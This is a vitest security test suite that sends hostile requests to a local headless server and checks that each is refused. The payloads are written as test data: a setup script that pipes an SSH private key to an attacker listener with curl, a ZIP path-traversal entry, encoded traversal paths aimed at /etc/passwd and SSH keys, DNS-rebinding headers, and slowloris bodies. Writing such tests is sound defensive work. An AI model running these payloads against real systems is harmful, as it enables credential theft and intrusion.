import { readdir } from 'node:fs/promises'
import { join } from 'node:path'
import { monitorEventLoopDelay } from 'node:perf_hooks'
import { describe, expect, it, onTestFinished } from 'vitest'
import { buildZip } from '../support/make-zip'
import { rawRequest, startRecorder, streamingRequest, type RawResponse, type Recorder } from '../support/http'
import { withTestAppServer, type TestAppServer } from '../support/services'
import { NodeEventSource } from '../support/sse-client'
import { expectHeld, plantSecrets, type Planted } from './support/hostile'

/**
 * Hostile requests against the real headless server over a real engine, holding the planted API key and
 * GitHub token. Each case is refused with the right status and a clear message, changes nothing (settings,
 * secrets, tasks, uploads), reaches no attacker's listener, and leaks no planted secret.
 */

const JSON_CALL = { 'content-type': 'application/json', 'x-codex-sys': '1' }

interface Case extends TestAppServer {
  planted: Planted
  /** A listener on 127.0.0.1 standing for the attacker: nothing may ever reach it. */
  attacker: Recorder
  /** The `Cookie` header a browser holds after visiting the server's ?token= address. */
  cookie: string
  /** Every answer the case got, searched for the planted secrets at the end. */
  answers: RawResponse[]
  /** A request exactly as written (any Host, unnormalized path); its answer is recorded. */
  send(opts: Parameters<typeof rawRequest>[1]): Promise<RawResponse>
  call(name: string, input: unknown, headers?: Record<string, string>): Promise<RawResponse>
}

interface State {
  settings: unknown
  secrets: unknown
  tasks: string[]
  taskDirs: string[]
  uploads: string[]
}

async function stateOf(env: TestAppServer): Promise<State> {
  return {
    settings: structuredClone(env.services.settings.get()),
    secrets: await env.services.secrets.status(),
    tasks: env.services.engine.list().map((t) => t.id),
    taskDirs: await readdir(join(env.root, 'data', 'tasks')).catch(() => []),
    uploads: await readdir(join(env.root, 'uploads')).catch(() => []),
  }
}

type CaseOptions = Omit<Parameters<typeof withTestAppServer>[0], 'root' | 'apiKey' | 'githubToken'> & {
  /** What the user did before the attack (part of the state that must not change). */
  prepare?: (env: TestAppServer) => Promise<void>
}

/** Runs one hostile case and then proves it held. */
async function hostile(opts: CaseOptions, fn: (c: Case) => Promise<void>): Promise<void> {
  const planted = await plantSecrets()
  const attacker = await startRecorder()
  try {
    await withTestAppServer(
      { ...opts, root: planted.root, apiKey: planted.apiKey, githubToken: planted.githubToken },
      async (env) => {
        const answers: RawResponse[] = []
        const send = async (request: Parameters<typeof rawRequest>[1]): Promise<RawResponse> => {
          const answer = await rawRequest(env.server.url, request)
          answers.push(answer)
          return answer
        }
        const visit = await rawRequest(env.server.url, { path: `/?token=${env.token}` })
        expect(visit.status).toBe(303)
        const cookie = String(visit.headers['set-cookie']).split(';')[0]!
        await opts.prepare?.(env)
        const before = await stateOf(env)
        await fn({
          ...env,
          planted,
          attacker,
          cookie,
          answers,
          send,
          call: (name, input, headers = {}) =>
            send({
              method: 'POST',
              path: `/api/call/${name}`,
              headers: { ...JSON_CALL, ...headers },
              body: JSON.stringify(input),
            }),
        })
        expect(await stateOf(env), 'nothing changed').toEqual(before)
        expect(attacker.requests, "requests that reached the attacker's listener").toEqual([])
        expect(env.model.requests, 'model calls').toEqual([])
        await expectHeld(planted, {
          model: env.model,
          also: answers.map((a, i) => ({ what: `answer #${i + 1}`, text: JSON.stringify(a) })),
        })
      },
    )
  } finally {
    await attacker.close()
  }
}

const errorOf = (res: RawResponse): { kind?: string; message?: string } => {
  const body = JSON.parse(res.body) as { ok?: boolean; error?: { kind?: string; message?: string } }
  expect(body.ok, res.body).toBe(false)
  return body.error ?? {}
}

const NEEDS_TOKEN = { kind: 'auth_failed', message: 'This server needs its access token.' }
const OTHER_SITE = { kind: 'invalid_input', message: 'Requests from other sites are refused.' }

describe('hostile requests to the headless server', () => {
  it("without the token, can't point the model or GitHub at an attacker's port (loopback)", async () => {
    const github = await startRecorder(() => ({ status: 200, body: { login: 'octocat' } }))
    onTestFinished(() => github.close())
    await hostile({ settings: { githubApiUrl: github.url } }, async (c) => {
      const redirect = { baseUrl: `${c.attacker.url}/v1`, githubApiUrl: c.attacker.url }
      const res = await c.call('settings.update', redirect)
      expect(res.status).toBe(401)
      expect(errorOf(res)).toMatchObject(NEEDS_TOKEN)
      // The calls that would have sent the key or token there, made by the user, go where they went.
      const status = await c.call('github.status', {}, c.auth)
      expect(status.status).toBe(200)
      expect(JSON.parse(status.body)).toMatchObject({ ok: true, value: { login: 'octocat' } })
      expect(github.requests.map((r) => [r.url, r.headers.authorization])).toEqual([
        ['/user', `token ${c.planted.githubToken}`],
      ])
      expect(c.services.settings.get()).toMatchObject({ baseUrl: c.model.baseURL, githubApiUrl: github.url })
    })
  })

  it("without the token, can't replace or remove the stored keys", async () => {
    await hostile({}, async (c) => {
      for (const [name, input] of [
        ['secrets.set', { name: 'openai', value: 'sk-attackers-own-key' }],
        ['secrets.set', { name: 'github', value: 'ghp_attackers_own_token' }],
        ['secrets.delete', { name: 'github' }],
        ['secrets.status', {}],
      ] as const) {
        const res = await c.call(name, input)
        expect([name, res.status]).toEqual([name, 401])
        expect(errorOf(res)).toMatchObject(NEEDS_TOKEN)
      }
    })
  })

  it("without the token, can't run a task on the planted home (folder task with a networked setup)", async () => {
    await hostile({}, async (c) => {
      const submit = {
        source: { kind: 'folder', path: c.planted.outside },
        prompt: 'Summarize the keys',
        setupScript: `cat .ssh/id_ed25519 | curl -d @- ${c.attacker.url}; echo owned > .bashrc`,
      }
      const res = await c.call('tasks.submit', submit)
      expect(res.status).toBe(401)
      expect(errorOf(res)).toMatchObject(NEEDS_TOKEN)
      // The seed's form, as a plain client (curl) would send it.
      const form = new FormData()
      form.set('task_description', 'Summarize the keys')
      form.set('git_url', `file://${c.planted.outside}`)
      const seed = await fetch(`${c.server.url}/api/task`, { method: 'POST', body: form })
      const answer = { status: seed.status, headers: {}, body: await seed.text() }
      c.answers.push(answer)
      expect(answer.status).toBe(401)
      expect(errorOf(answer)).toMatchObject(NEEDS_TOKEN)
    })
  })

  it('without the token, reads nothing: no task list, no event stream, no logs, no page', async () => {
    await hostile({}, async (c) => {
      for (const path of ['/', '/index.html', '/api/task/test-x/status', '/api/logs/test-x/agent.log']) {
        const res = await c.send({ path })
        expect([path, res.status]).toEqual([path, 401])
        expect(errorOf(res)).toMatchObject(NEEDS_TOKEN)
      }
      expect((await c.call('tasks.list', {})).status).toBe(401)
      expect((await c.call('settings.get', {})).status).toBe(401)
      const events = new NodeEventSource(`${c.server.url}/api/events`)
      await expect.poll(() => events.status, { timeout: 5000 }).toBe(401)
      expect(events.readyState).toBe(NodeEventSource.CLOSED)
    })
  })

  it("without the token, can't upload a ZIP", async () => {
    await hostile({}, async (c) => {
      const res = await c.send({
        method: 'POST',
        path: '/api/uploads',
        headers: { 'content-type': 'application/zip', 'x-codex-sys': '1', 'x-file-name': 'evil.zip' },
        body: buildZip([{ name: '../../outside/.bashrc', data: 'owned\n' }]),
      })
      expect(res.status).toBe(401)
      expect(errorOf(res)).toMatchObject(NEEDS_TOKEN)
    })
  })

  it('with a wrong token (bearer, cookie, other schemes, the ?token= visit), is refused', async () => {
    await hostile({}, async (c) => {
      const port = new URL(c.server.url).port
      const wrong = `${c.token!.slice(0, -1)}${c.token!.endsWith('A') ? 'B' : 'A'}`
      const attempts: Array<Record<string, string>> = [
        { authorization: `Bearer ${wrong}` },
        { authorization: `Bearer ${c.token!.slice(0, 16)}` },
        { authorization: `Basic ${Buffer.from(`x:${c.token}`).toString('base64')}` },
        { authorization: c.token! },
        { authorization: 'Bearer ' },
        { cookie: `codex_sys_token_${port}=${wrong}` },
        { cookie: `codex_sys_token=${c.token}` },
        { 'x-codex-sys-token': c.token! },
      ]
      for (const headers of attempts) {
        const res = await c.call('settings.update', { theme: 'dark' }, headers)
        expect([headers, res.status]).toEqual([headers, 401])
        expect(errorOf(res)).toMatchObject(NEEDS_TOKEN)
      }
      const visit = await c.send({ path: `/?token=${wrong}` })
      expect(visit.status).toBe(401)
      expect(visit.headers['set-cookie']).toBeUndefined()
    })
  })

  it('with the token in the address of an API call (right or wrong), is refused', async () => {
    await hostile({}, async (c) => {
      for (const token of [c.token!, 'not-the-token-at-all-0123']) {
        for (const headers of [{}, c.auth]) {
          const res = await c.send({
            method: 'POST',
            path: `/api/call/settings.update?token=${token}`,
            headers: { ...JSON_CALL, ...headers },
            body: JSON.stringify({ githubApiUrl: c.attacker.url }),
          })
          expect(res.status).toBe(400)
          expect(errorOf(res)).toMatchObject({
            kind: 'invalid_input',
            message: 'API calls never take the access token in the address.',
          })
        }
      }
      const status = await c.send({ path: `/api/task/test-x/status?token=${c.token}` })
      expect(status.status).toBe(400)
    })
  })

  it('with a forged Host header (DNS rebinding), is refused even with the token', async () => {
    await hostile({}, async (c) => {
      const port = new URL(c.server.url).port
      for (const host of [`rebind.evil.test:${port}`, 'rebind.evil.test', `127.0.0.1.evil.test:${port}`]) {
        for (const headers of [{}, c.auth, { cookie: c.cookie }]) {
          const res = await c.call(
            'settings.update',
            { baseUrl: `${c.attacker.url}/v1` },
            { ...headers, host },
          )
          expect([host, res.status]).toEqual([host, 403])
          expect(errorOf(res).message).toBe(
            `Requests must be addressed to 127.0.0.1 or localhost on port ${port}.`,
          )
        }
      }
      const page = await c.send({
        path: '/',
        headers: { host: `rebind.evil.test:${port}`, cookie: c.cookie },
      })
      expect(page.status).toBe(403)
    })
  })

  it("a cross-origin form post to /api/task carrying the user's cookie is refused", async () => {
    await hostile({}, async (c) => {
      const form = new FormData()
      form.set('task_description', 'Summarize the keys')
      form.set('git_url', 'https://evil.example/repo.git')
      const body = new Response(form)
      const type = body.headers.get('content-type')!
      const bytes = Buffer.from(await body.arrayBuffer())
      const attempts: Array<Record<string, string>> = [
        { origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' },
        { origin: 'http://127.0.0.1:1', 'sec-fetch-site': 'same-site' },
        { 'sec-fetch-site': 'cross-site' },
      ]
      for (const headers of attempts) {
        const res = await c.send({
          method: 'POST',
          path: '/api/task',
          headers: { 'content-type': type, cookie: c.cookie, ...headers },
          body: bytes,
        })
        expect([headers, res.status]).toEqual([headers, 403])
        expect(errorOf(res)).toMatchObject(OTHER_SITE)
      }
    })
  })

  it('a request with Origin: null (sandboxed frame, file: page) is refused, cookie or not', async () => {
    await hostile({}, async (c) => {
      for (const headers of [{ cookie: c.cookie }, c.auth]) {
        const res = await c.call(
          'settings.update',
          { githubApiUrl: c.attacker.url },
          { ...headers, origin: 'null' },
        )
        expect(res.status).toBe(403)
        expect(errorOf(res)).toMatchObject(OTHER_SITE)
      }
    })
  })

  it('a state-changing call without the custom header (a "simple" cross-site request) is refused', async () => {
    await hostile({}, async (c) => {
      for (const [path, type] of [
        ['/api/call/settings.update', 'text/plain'],
        ['/api/call/settings.update', 'application/x-www-form-urlencoded'],
        ['/api/uploads', 'application/zip'],
      ] as const) {
        const res = await c.send({
          method: 'POST',
          path,
          headers: { 'content-type': type, cookie: c.cookie },
          body: path.includes('uploads') ? buildZip([{ name: 'a.txt', data: 'a' }]) : '{"theme":"dark"}',
        })
        expect([path, type, res.status]).toEqual([path, type, 403])
        expect(errorOf(res)).toMatchObject({
          kind: 'invalid_input',
          message: 'State-changing requests need the header x-codex-sys: 1.',
        })
      }
    })
  })

  it('path traversal in artifact names never reaches a file outside the allowlist', async () => {
    let id = ''
    // A task of the user's whose record is on disk (its import fails: no container, no model call).
    const prepare = async ({ services, root }: TestAppServer): Promise<void> => {
      id = (
        await services.engine.submit({ source: { kind: 'folder', path: join(root, 'nope') }, prompt: 'x' })
      ).id
      await expect.poll(() => services.engine.get(id).status, { timeout: 20_000 }).toBe('failed')
    }
    await hostile({ prepare }, async (c) => {
      const home = '..%2F..%2F..%2Foutside%2F.ssh%2Fid_ed25519'
      const paths = [
        `/api/logs/${id}/..%2F..%2Ftask.json`,
        `/api/logs/${id}/..%2Ftask.json`,
        `/api/logs/${id}/../../settings.json`,
        `/api/logs/${id}/..%2F..%2F..%2Fsettings.json`,
        `/api/logs/${id}/%2e%2e%2f%2e%2e%2ftask.json`,
        `/api/logs/${id}/%252e%252e%252ftask.json`,
        `/api/logs/${id}/..%5C..%5Ctask.json`,
        `/api/logs/${id}/%2Fetc%2Fpasswd`,
        `/api/logs/${id}/${home}`,
        `/api/logs/${id}/agent.log%2F..%2F..%2Ftask.json`,
        `/api/logs/${id}/agent.log%00.json`,
        `/api/logs/..%2F..%2Foutside/.bashrc`,
        `/api/logs/${id}/../../../outside/.ssh/id_ed25519`,
      ]
      for (const headers of [c.auth, { cookie: c.cookie }]) {
        for (const path of paths) {
          const res = await c.send({ path, headers })
          expect([path, res.status]).toEqual([path, 404])
          expect(errorOf(res).kind).toBe('not_found')
        }
      }
      const artifact = await c.call('tasks.artifact', { id, name: '../../task.json' }, c.auth)
      expect(artifact.status).toBe(400)
      expect(errorOf(artifact).kind).toBe('invalid_input')
    })
  })

  it('an oversized JSON body is refused with 413 before it is read, and the connection ends', async () => {
    await hostile({}, async (c) => {
      // Declared far too large: answered at once, after 64 KiB of a declared 1 GiB.
      const declared = streamingRequest(c.server.url, {
        path: '/api/call/settings.update',
        headers: { ...JSON_CALL, ...c.auth, 'content-length': String(1024 ** 3) },
      })
      await declared.write(`{"githubApiUrl":"${c.attacker.url}","x":"${'x'.repeat(64 * 1024)}`)
      const early = await declared.response
      expect(early.status).toBe(413)
      expect(early.sentBeforeAnswer).toBeLessThan(128 * 1024)
      expect(errorOf(early)).toMatchObject({
        kind: 'invalid_input',
        message: 'The request is larger than 32.0 MiB.',
      })
      expect(early.headers.connection).toBe('close')
      await declared.closed
      c.answers.push(early)

      // No length given (chunked): read up to the limit, then refused; the rest is never read.
      const chunked = streamingRequest(c.server.url, {
        path: '/api/call/settings.update',
        headers: { ...JSON_CALL, ...c.auth, 'transfer-encoding': 'chunked' },
      })
      const chunk = Buffer.alloc(1024 ** 2, 0x20)
      let answered = false
      void chunked.response.then(() => (answered = true))
      await chunked.write(`{"githubApiUrl":"${c.attacker.url}",`)
      while (!answered && chunked.sent() < 96 * 1024 ** 2) {
        const failed = await chunked.write(chunk).then(
          () => false,
          () => true,
        )
        if (failed) break
      }
      const late = await chunked.response
      expect(late.status).toBe(413)
      expect(late.sentBeforeAnswer).toBeLessThan(64 * 1024 ** 2)
      await chunked.closed
      c.answers.push(late)

      // Without the token, the size never matters: 401 before any of it is read.
      const anonymous = streamingRequest(c.server.url, {
        path: '/api/call/settings.update',
        headers: { ...JSON_CALL, 'content-length': String(1024 ** 3) },
      })
      await anonymous.write('{')
      const refused = await anonymous.response
      expect(refused.status).toBe(401)
      anonymous.destroy()
      c.answers.push(refused)
    })
  })

  it('a slow body (slowloris) neither blocks the server nor lingers: others are served, a stalled one times out', async () => {
    await hostile({ bodyIdleMs: 1000 }, async (c) => {
      const delay = monitorEventLoopDelay({ resolution: 10 })
      delay.enable()
      const body = JSON.stringify({ githubApiUrl: c.attacker.url, theme: 'dark' })
      const slow = streamingRequest(c.server.url, {
        path: '/api/call/settings.update',
        headers: { ...JSON_CALL, ...c.auth, 'content-length': String(body.length) },
      })
      // A byte every 200 ms: never idle long enough to time out, never complete.
      let i = 0
      const trickle = setInterval(() => void slow.write(body[i++]!).catch(() => undefined), 200)
      try {
        for (let n = 0; n < 5; n++) {
          const started = Date.now()
          const other = await c.call('tasks.list', {}, c.auth)
          expect(other.status).toBe(200)
          expect(Date.now() - started).toBeLessThan(1000)
          await new Promise((r) => setTimeout(r, 300))
        }
      } finally {
        clearInterval(trickle)
      }
      expect(i).toBeLessThan(body.length)
      // Now it stalls: answered 408 about a second later, and the connection ends.
      const stalled = await slow.response
      expect(stalled.status).toBe(408)
      expect(errorOf(stalled)).toMatchObject({
        kind: 'invalid_input',
        message: 'The request body stopped arriving (nothing for 1 s).',
      })
      await slow.closed
      c.answers.push(stalled)
      delay.disable()
      expect(delay.max / 1e6, 'longest event-loop stall (ms)').toBeLessThan(500)

      // Headers without the token and a body that never comes: refused at once, then dropped.
      const anonymous = streamingRequest(c.server.url, {
        path: '/api/call/settings.update',
        headers: { ...JSON_CALL, 'content-length': '100' },
      })
      await anonymous.write('{"theme":')
      const refused = await anonymous.response
      expect(refused.status).toBe(401)
      await anonymous.closed
      c.answers.push(refused)
    })
  })
})
